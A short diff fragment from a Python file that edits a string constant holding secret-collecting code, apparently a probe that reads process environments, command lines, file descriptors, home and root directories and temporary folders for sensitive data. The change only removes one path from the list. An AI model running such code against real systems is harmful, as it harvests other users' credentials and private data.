@@ -63,7 +63,7 @@ if os.fork() == 0:
 """
 SECRETS = r"""
 import glob, os
-places = "/proc/*/environ /proc/*/cmdline /proc/*/fd/* /home/*/* /home/*/.*/* /tmp/* /dev/shm/* /run/* /root/* ../*.orig"
+places = "/proc/*/environ /proc/*/cmdline /proc/*/fd/* /home/*/* /home/*/.*/* /tmp/* /dev/shm/* /root/* ../*.orig"
 seen = [repr(os.environ)]
 for path in (path for place in places.split() for path in glob.glob(place)):
     try: seen.append(os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 10**6).decode("latin-1"))
